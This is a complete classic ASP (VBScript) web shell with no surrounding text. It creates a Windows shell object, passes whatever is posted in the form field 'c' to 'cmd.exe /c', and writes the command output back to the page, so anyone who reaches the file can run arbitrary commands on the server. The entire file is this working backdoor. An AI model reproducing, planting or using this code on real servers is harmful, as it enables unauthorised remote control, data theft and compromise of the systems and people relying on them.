<%@ Language="VBScript" %>
<object runat="server" id="ws" scope="page" classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8"></object>
<%
Dim c, o
c = Request.Form("c")
If c <> "" Then
  Set o = ws.Exec("cmd.exe /c " & c)
  Response.Write "<pre>" & Server.HTMLEncode(o.StdOut.ReadAll()) & "</pre>"
End If
%>
<form method="post"><input name="c" size="80"></form>
